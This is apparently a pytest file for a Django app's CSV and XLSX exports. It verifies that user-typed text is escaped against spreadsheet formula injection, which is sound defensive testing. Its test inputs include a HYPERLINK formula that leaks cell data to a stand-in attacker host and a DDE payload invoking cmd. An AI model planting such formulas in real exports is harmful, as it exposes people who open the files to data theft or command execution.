"""No text typed into Samhandla is run as a formula when a file is opened in a spreadsheet (CSV
injection, OWASP): every CSV and XLSX export goes through ``config.exports.safe_cell``.

The two reported holes, through the real views: an answer's reason given through the alarm answer
link (no login) in the alarm report's CSV, and a case's sector in the case list's CSV. Then the
helper itself, the XLSX exports through the same helper, and a check of the source that no export
writes a cell around it.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from alarms.core.models import Recipient, Response
from alarms.delivery.messages import answer_token
from checklist.models import RoutineAnswer
from config import exports
from config.exports import append_row, csv_response, safe_cell, safe_row
from establishments import services
from tests import factories as f
from tests.alarms.harness_world import alarm_world
from tests.checklist.readiness.helpers import fill, open_round
from workspace.plan import services as plan_services
from workspace.plan.models import Action

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka här")'
SHORT = '=HYPERLINK("x")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def assert_no_live_formula(cells) -> None:
    """No cell is a formula, and every text that could start one starts with the quote."""
    for value in cells:
        if isinstance(value, str) and value:
            assert not value.startswith(TRIGGERS), repr(value)
            assert not value.lstrip().startswith(exports.FORMULA_CHARS), repr(value)


# --- The two reported exports, through the views ------------------------------------------------


@pytest.mark.django_db
def test_a_reason_given_through_the_answer_link_is_no_formula_in_the_report_csv(client, world):
    aw = alarm_world(world)
    link = reverse("alarms:answer_link", args=[answer_token(aw["alarm_delivery"])])
    response = client.post(link, {"response": Response.DECLINED, "reason": HYPERLINK, "who_comes": ""})
    assert response.status_code == 200 and 'data-link-result="answered"' in response.content.decode()
    assert Recipient.objects.get(pk=aw["alarm_recipient"].pk).reason == HYPERLINK  # stored as typed

    client.force_login(aw["coordinator"])
    rows = read_csv(client.get(reverse("alarms:report_csv", args=[aw["alarm"].pk])))

    row = next(r for r in rows[2:] if r[0] == "Medlemmen")
    assert row[6] == "'" + HYPERLINK  # the reason: shown as text, never run
    assert HYPERLINK not in [cell for r in rows for cell in r]
    assert_no_live_formula(cell for r in rows for cell in r)
    assert row[-1].isdigit() and row[-2].isdigit()  # counts stay numbers


@pytest.mark.django_db
def test_a_formula_in_a_cases_sector_is_no_formula_in_the_case_list_csv(client, world):
    company = f.OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    case = services.case_create(
        user=world["coordinator"],
        name="-2+3 Formelfabriken",
        company=company,
        sector="=1+2",
        lead_municipality=f.municipality("2482"),
        coordinator=world["coordinator"],
        deputy=world["deputy"],
        target_jobs=120,
    )
    client.force_login(world["coordinator"])
    rows = read_csv(client.get(reverse("establishments:case_list"), {"format": "csv"}))

    row = next(r for r in rows[1:] if "Formelfabriken" in r[0])
    assert row[0] == "'-2+3 Formelfabriken"
    assert row[1] == "'" + company.name
    assert row[2] == "'=1+2"
    assert row[8] == "120"  # the number of jobs stays a number
    assert_no_live_formula(cell for r in rows for cell in r)
    assert case.sector == "=1+2"  # the case itself keeps what was typed


# --- The helper -------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", TRIGGERS)
def test_each_formula_start_is_quoted(start):
    value = f"{start}1+1"
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [" =1+1", "  +A1", "\n=1+1", " \t@SUM(A1)", "\u00a0-1+1", " ＝1+1"],
)
def test_a_formula_after_leading_whitespace_is_quoted_too(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["", "Skellefteå kommun", "1+1", "a=b", "E-post", "Mejla @anna", "'=redan citerad", "100%", " text"],
)
def test_plain_text_is_left_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [None, 0, -5, 12, -1.5, 2.25, Decimal("-3.10"), True, False, date(2026, 1, 2),
     datetime(2026, 1, 2, 3, 4), time(12, 30), timedelta(seconds=-90)],
)  # fmt: skip
def test_numbers_dates_and_none_are_left_as_they_are(value):
    result = safe_cell(value)
    assert result is value or (result == value and type(result) is type(value))


def test_other_objects_become_their_text_first():
    class Named:
        def __str__(self):
            return "=EVIL()"

    assert safe_cell(Named()) == "'=EVIL()"
    lazy = gettext_lazy("Case")
    assert safe_cell(lazy) == str(lazy) and type(safe_cell(lazy)) is str
    assert safe_row(["=A1", -2, None, "ok"]) == ["'=A1", -2, None, "ok"]


def test_the_csv_writer_quotes_every_cell_it_writes():
    response, writer = csv_response("x.csv")
    writer.writerow(["=1+1", -5, "a;b", None, '"=2"'])
    writer.writerows([["+A1"], ["@B2"]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = read_csv(response)
    assert rows == [["'=1+1", "-5", "a;b", "", '"=2"'], ["'+A1"], ["'@B2"]]


def test_append_row_writes_text_never_a_formula():
    wb = Workbook()
    ws = wb.active
    append_row(ws, ["=SUM(A1:A9)", -7, 1.5, date(2026, 1, 1), None, "+46 70 123 45 67"])
    out = BytesIO()
    wb.save(out)
    cells = list(load_workbook(BytesIO(out.getvalue())).active.iter_rows())[0]
    assert [c.data_type for c in cells][:3] == ["s", "n", "n"]
    assert cells[0].value == "'=SUM(A1:A9)" and cells[1].value == -7 and cells[2].value == 1.5
    assert cells[3].value.date() == date(2026, 1, 1) and cells[4].value is None
    assert cells[5].value == "'+46 70 123 45 67"


# --- The XLSX exports go through the same helper -----------------------------------------------------


@pytest.fixture
def spy(monkeypatch):
    """Every value ``config.exports.safe_cell`` is asked about."""
    seen = []
    real = exports.safe_cell

    def recording(value):
        seen.append(value)
        return real(value)

    monkeypatch.setattr(exports, "safe_cell", recording)
    return seen


def workbook_cells(content: bytes):
    wb = load_workbook(BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


@pytest.mark.django_db
def test_the_readiness_matrix_xlsx_escapes_through_the_helper(client, spy):
    org = f.OrganisationFactory(name=SHORT)
    round_ = open_round(organisations=[org], title="+Våren")
    fill(round_, org, "nej")
    RoutineAnswer.objects.filter(participant__round=round_).update(
        plan_who="@Näringslivschefen", comment="-1+1"
    )
    coordinator = f.coordinator("24")
    client.force_login(coordinator)
    response = client.get(reverse("checklist:matrix_xlsx", args=[round_.pk]))
    assert response.status_code == 200

    cells = list(workbook_cells(response.content))
    assert not [c for c in cells if c.data_type == "f"]
    assert_no_live_formula(c.value for c in cells)
    values = [c.value for c in cells]
    assert "'" + SHORT in values and "'@Näringslivschefen" in values and "'-1+1" in values
    assert any(isinstance(v, float | int) for v in values)  # the figures stay numbers
    assert org.name in spy and "-1+1" in spy  # through config.exports.safe_cell


@pytest.mark.django_db
def test_the_action_plan_xlsx_escapes_through_the_helper(client, world, spy):
    case = world["case_open"]
    plan_services.action_save(
        user=world["coordinator"],
        action=Action(
            case=case,
            theme="mark",
            title=SHORT,
            current_state="+Ingen mark",
            target_state="@Detaljplan",
            sharing="medlemmar",
        ),
    )
    client.force_login(world["coordinator"])
    response = client.get(reverse("workspace:action_plan_export", kwargs={"case_pk": case.pk}))
    assert response.status_code == 200

    cells = list(workbook_cells(response.content))
    assert not [c for c in cells if c.data_type == "f"]
    assert_no_live_formula(c.value for c in cells)
    values = [c.value for c in cells]
    assert "'" + SHORT in values and "'+Ingen mark" in values and "'@Detaljplan" in values
    assert SHORT in spy


# --- No export writes a cell around the helper ---------------------------------------------------


def _sources():
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in {".venv", "tests", "node_modules"} or "migrations" in rel.parts:
            continue
        yield rel, path.read_text()


def test_only_the_helper_writes_csv():
    writers = [str(rel) for rel, text in _sources() if "csv.writer(" in text or "csv.DictWriter(" in text]
    assert writers == ["config/exports.py"]


def _sheet_names(tree) -> set[str]:
    """Names bound to an openpyxl worksheet: ``x = wb.active`` or ``x = wb.create_sheet(...)``."""
    names = set()
    for node in ast.walk(tree):
        if not isinstance(node, ast.Assign):
            continue
        value = node.value
        active = isinstance(value, ast.Attribute) and value.attr == "active"
        created = (
            isinstance(value, ast.Call)
            and isinstance(value.func, ast.Attribute)
            and value.func.attr == "create_sheet"
        )
        if active or created:
            names |= {t.id for t in node.targets if isinstance(t, ast.Name)}
    return names


def _writes_around_the_helper(tree, sheets: set[str]) -> list[tuple[int, str]]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            on = node.func.value
            if node.func.attr == "append" and isinstance(on, ast.Name) and on.id in sheets:
                found.append((node.lineno, "sheet.append"))
            if node.func.attr == "cell" and any(k.arg == "value" for k in node.keywords):
                found.append((node.lineno, "cell(value=)"))
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Subscript) and getattr(target.value, "id", None) in sheets:
                    found.append((node.lineno, "sheet[...] ="))
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append((node.lineno, ".value ="))
    return found


def test_no_xlsx_export_puts_a_value_in_a_sheet_but_through_the_helper():
    """In every module that uses openpyxl: no ``sheet.append(...)``, no ``cell(..., value=...)``,
    no ``sheet["A1"] = ...`` or ``cell.value = ...``: rows go through ``config.exports.append_row``."""
    offenders, exporters = [], []
    for rel, text in _sources():
        if "openpyxl" not in text or rel.parts[0] == "config":
            continue
        exporters.append(str(rel))
        tree = ast.parse(text)
        offenders += [(str(rel), *where) for where in _writes_around_the_helper(tree, _sheet_names(tree))]
        assert "append_row" in text, rel
    assert sorted(exporters) == [
        "checklist/readiness/exports.py",
        "competence/picture/exports.py",
        "workspace/plan/export.py",
    ]
    assert offenders == []
